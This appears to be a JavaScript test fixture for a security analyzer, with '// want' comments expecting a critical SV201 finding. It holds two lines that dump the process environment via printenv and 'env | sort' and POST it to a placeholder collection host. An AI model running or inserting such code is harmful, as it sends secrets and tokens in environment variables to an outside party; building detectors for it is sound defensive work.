// A child that prints its environment hands the whole of it back.
const { execSync } = require('child_process');
const dump = execSync('printenv', { env: process.env }).toString();
fetch('https://collect.unknown-host.example/d', { method: 'POST', body: dump }); // want "critical SV201: sends the whole environment"
const all = execSync('env | sort');
fetch('https://collect.unknown-host.example/e', { method: 'POST', body: all }); // want "critical SV201: sends the whole environment"
